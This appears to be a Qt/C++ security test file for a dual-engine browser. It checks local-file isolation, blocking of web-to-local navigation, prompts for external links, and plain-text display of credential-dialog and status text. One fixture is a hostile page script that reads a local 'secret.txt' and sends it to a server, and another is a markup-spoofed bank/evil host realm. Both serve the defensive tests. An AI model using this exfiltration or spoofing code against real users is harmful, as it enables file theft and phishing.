// What pages may do in both engines: a local page reads no other local file and reaches no server
// with its scripts, the bundled start site still shows with its stylesheet, a page of the web
// opens no local file, links to other programs ask first, and the server's or page's text shows as
// plain text in the credentials dialog and the status bar.
#include "browser/ChromiumView.h"
#include "browser/FormIdentityAuth.h"
#include "browser/PageMessageBox.h"
#include "browser/WebControlView.h"
#include "common/Dialogs.h"
#include "shell/FormMain.h"
#include "support/EngineTestMain.h"
#include "support/TestDb.h"
#include "support/TestServer.h"
#include "support/WindowTestKit.h"

#include <QDesktopServices>
#include <QLabel>
#include <QTemporaryDir>
#include <QTextDocument>
#include <memory>

namespace {

// One tab's page in either engine, driven only through what the browser itself uses.
class TEnginePage {
public:
    explicit TEnginePage(bool chromium) {
        m_parent.resize(800, 600);
        if (chromium) {
            auto* view = new TChromiumView(&m_parent);
            QObject::connect(view, &TChromiumView::titleChange, [this](const QString& t) { m_title = t; });
            m_page = view;
        } else {
            TWebControlView* control = CreateWebControlView(&m_parent);
            if (!control)
                return;
            QObject::connect(control, &TWebControlView::titleChange, [this](const QString& t) { m_title = t; });
            m_page = control;
        }
        m_page->Widget()->resize(m_parent.size());
        m_parent.show();
    }
    bool Ok() const { return m_page != nullptr; }
    TPageView* Page() const { return m_page; }
    QString Title() const { return m_title; }
    // The widget that takes the page's mouse input.
    QWidget* Input() const {
        QWidget* widget = m_page->Widget();
        for (QWidget* child : widget->findChildren<QWidget*>())
            if (child->metaObject()->className() == QByteArray("QWebView"))
                return child;
        return widget->focusProxy() ? widget->focusProxy() : widget;
    }
    QColor PixelAt(const QPoint& point) const { return m_page->Widget()->grab().toImage().pixelColor(point); }

private:
    QWidget m_parent;
    TPageView* m_page = nullptr;
    QString m_title;
};

// Records the addresses the desktop would have opened.
class TDesktopOpener : public QObject {
    Q_OBJECT
public:
    explicit TDesktopOpener(const QString& scheme) : m_scheme(scheme) {
        QDesktopServices::setUrlHandler(scheme, this, "open");
    }
    ~TDesktopOpener() override { QDesktopServices::unsetUrlHandler(m_scheme); }
    QList<QUrl> Opened;
public slots:
    void open(const QUrl& url) { Opened.append(url); }

private:
    QString m_scheme;
};

// How QLabel shows its text: literally, or as rich text when the format is left to its guess.
bool ShowsLiterally(const QLabel* label) {
    return label->textFormat() == Qt::PlainText ||
           (label->textFormat() == Qt::AutoText && !Qt::mightBeRichText(label->text()));
}

bool WriteFile(const QString& path, const QByteArray& data) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(data) == data.size();
}

} // namespace

class TestEngineSecurity : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
    void cleanup() {
        SetPageMsgBoxFunction(nullptr);
        CloseMainWindows();
    }
    void localPageReadsNoFileAndReachesNoServer_data();
    void localPageReadsNoFileAndReachesNoServer();
    void startSiteShowsWithItsStylesheet_data() { localPageReadsNoFileAndReachesNoServer_data(); }
    void startSiteShowsWithItsStylesheet();
    void localPageLinksStillOpen_data() { localPageReadsNoFileAndReachesNoServer_data(); }
    void localPageLinksStillOpen();
    void webPageOpensNoLocalFile_data() { localPageReadsNoFileAndReachesNoServer_data(); }
    void webPageOpensNoLocalFile();
    void otherProgramsLinkAsksFirst_data() { localPageReadsNoFileAndReachesNoServer_data(); }
    void otherProgramsLinkAsksFirst();
    void serverAndPageTextShowsLiterally();
};

void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer_data() {
    QTest::addColumn<bool>("chromium");
    QTest::newRow("chromium") << true;
    QTest::newRow("compatibility engine") << false;
}

void TestEngineSecurity::localPageReadsNoFileAndReachesNoServer() {
    QFETCH(bool, chromium);
    TTestServer server;
    QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
    QTemporaryDir folder;
    QVERIFY(WriteFile(folder.filePath("secret.txt"), "SECRET-TEXT"));
    // Every attempt reports in the title; what was read would go to the server.
    const QByteArray hostile = QByteArray(R"(<html><head><title>start</title><script>
var server = 'http://127.0.0.1:PORT', results = [];
function report(what) { results.push(what); if (results.length == 4) document.title = 'done ' + results.join(' '); }
function leak(text) { new Image().src = server + '/leak?' + encodeURIComponent(text); }
function xhr(url, name) {
  try {
    var x = new XMLHttpRequest(); x.open('GET', url, true);
    x.onload = function() { report(name + ':' + x.responseText); leak(x.responseText); };
    x.onerror = function() { report(name + ':refused'); };
    x.send();
  } catch (e) { report(name + ':threw'); }
}
function get(url, name) {
  if (!window.fetch) { report(name + ':none'); return; }
  fetch(url).then(function(r) { return r.text(); })
    .then(function(t) { report(name + ':' + t); leak(t); }, function() { report(name + ':refused'); });
}
xhr('secret.txt', 'xhr-file'); xhr(server + '/xhr', 'xhr-server');
get('secret.txt', 'fetch-file'); get(server + '/fetch', 'fetch-server');
</script></head><body>page</body></html>)")
                                 .replace("PORT", QByteArray::number(server.Port()));
    QVERIFY(WriteFile(folder.filePath("hostile.html"), hostile));

    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page.Page()->Navigate(QUrl::fromLocalFile(folder.filePath("hostile.html")).toString());
    QTRY_VERIFY_WITH_TIMEOUT(page.Title().startsWith(QLatin1String("done")), LoadTimeout);
    QVERIFY2(!page.Title().contains(QLatin1String("SECRET")), qPrintable(page.Title()));
    QVERIFY2(server.Stats().isEmpty(), qPrintable(QStringList(server.Stats().keys()).join(' ')));
}

void TestEngineSecurity::startSiteShowsWithItsStylesheet() {
    QFETCH(bool, chromium);
    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page.Page()->Navigate(QUrl::fromLocalFile(QStringLiteral(QUELLON_SOURCE_DIR "/res/site/index.html")).toString());
    QTRY_VERIFY_WITH_TIMEOUT(!page.Title().isEmpty() && !page.Page()->IsLoading(), LoadTimeout);
    // The stylesheet's page background, not the engine's white.
    QTRY_COMPARE_WITH_TIMEOUT(page.PixelAt(QPoint(5, 5)), QColor(0xf4, 0xf6, 0xfa), LoadTimeout);
}

// The navigation page is a local page whose links and search form lead to the web.
void TestEngineSecurity::localPageLinksStillOpen() {
    QFETCH(bool, chromium);
    TTestServer server;
    QVERIFY(server.WriteFile("linked.html", "<title>linked</title>"));
    QTemporaryDir folder;
    QVERIFY(WriteFile(folder.filePath("links.html"),
                      QStringLiteral("<title>links</title><a href='%1' style='position:fixed;left:0;top:0;"
                                     "width:100%;height:100%'>web</a>")
                          .arg(server.Url("/linked.html"))
                          .toUtf8()));
    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page.Page()->Navigate(QUrl::fromLocalFile(folder.filePath("links.html")).toString());
    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("links") && !page.Page()->IsLoading(), LoadTimeout);
    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("linked"), LoadTimeout);
}

void TestEngineSecurity::webPageOpensNoLocalFile() {
    QFETCH(bool, chromium);
    QTemporaryDir folder;
    QVERIFY(WriteFile(folder.filePath("local.html"), "<title>local page</title>"));
    const QString local = QUrl::fromLocalFile(folder.filePath("local.html")).toString();
    TTestServer server;
    QVERIFY(server.WriteFile("web.html", QStringLiteral("<title>web</title><a id=l href='%1' "
                                                         "style='position:fixed;left:0;top:0;width:100%;"
                                                         "height:100%'>local</a>")
                                              .arg(local)
                                              .toUtf8()));
    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page.Page()->Navigate(server.Url("/web.html"));
    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("web") && !page.Page()->IsLoading(), LoadTimeout);
    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
    // The typed address of the program opens; by then the click would have been followed.
    page.Page()->Navigate(server.Url("/web.html?again"));
    QTRY_VERIFY_WITH_TIMEOUT(page.Page()->CurrentUrl().endsWith(QLatin1String("again")) &&
                                 !page.Page()->IsLoading(),
                             LoadTimeout);
    QVERIFY(page.Title() != QLatin1String("local page"));
    page.Page()->Navigate(local);
    QTRY_COMPARE_WITH_TIMEOUT(page.Title(), QStringLiteral("local page"), LoadTimeout);
}

void TestEngineSecurity::otherProgramsLinkAsksFirst() {
    QFETCH(bool, chromium);
    TDesktopOpener desktop(QStringLiteral("mailto"));
    QStringList questions;
    int answer = IDNO;
    SetPageMsgBoxFunction([&](const QString& text, int) {
        questions.append(text);
        return answer;
    });
    TTestServer server;
    QVERIFY(server.WriteFile("mail.html", "<title>mail</title><a href='mailto:someone@example.com' "
                                           "style='position:fixed;left:0;top:0;width:100%;height:100%'>m</a>"));
    TEnginePage page(chromium);
    QVERIFY(page.Ok());
    page.Page()->Navigate(server.Url("/mail.html"));
    QTRY_VERIFY_WITH_TIMEOUT(page.Title() == QLatin1String("mail") && !page.Page()->IsLoading(), LoadTimeout);

    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(50, 50));
    QTRY_VERIFY_WITH_TIMEOUT(!questions.isEmpty() || !desktop.Opened.isEmpty(), LoadTimeout);
    QVERIFY2(desktop.Opened.isEmpty(), "opened without a question");
    QCOMPARE(questions.size(), 1);
    QVERIFY(questions.first().startsWith(QStringLiteral("要打开外部程序处理此链接吗？")));
    QVERIFY(questions.first().contains(QLatin1String("mailto")));

    answer = IDYES;
    QTest::mouseClick(page.Input(), Qt::LeftButton, Qt::NoModifier, QPoint(60, 60));
    QTRY_COMPARE_WITH_TIMEOUT(desktop.Opened, QList<QUrl>{QUrl(QStringLiteral("mailto:someone@example.com"))},
                              LoadTimeout);
    QCOMPARE(questions.size(), 2);
}

void TestEngineSecurity::serverAndPageTextShowsLiterally() {
    // A realm of markup drew a fake host in the visible text and the real one 1 px high.
    TFormIdentityAuth dialog(nullptr);
    dialog.SetPrompt(TFormIdentityAuth::PromptText(
        QStringLiteral("<b>bank.example</b><span style='font-size:1px'>"), QStringLiteral("evil.example"), 80));
    auto* prompt = dialog.findChild<QLabel*>(QStringLiteral("LabelPrompt"));
    QVERIFY(prompt);
    QVERIFY(prompt->text().contains(QLatin1String("<b>bank.example</b>")));
    QVERIFY(ShowsLiterally(prompt));

    TTestDb data;
    QVERIFY(data.Ok());
    auto window = OpenWindow(data.Db());
    auto* status = window->findChild<QLabel*>(QStringLiteral("LabelStatus"));
    QVERIFY(status);
    status->setText(QStringLiteral("<img src='x'><b>page text</b>"));
    QVERIFY(ShowsLiterally(status));
}

QUELLON_ENGINE_TEST_MAIN(TestEngineSecurity)
#include "tst_EngineSecurity.moc"
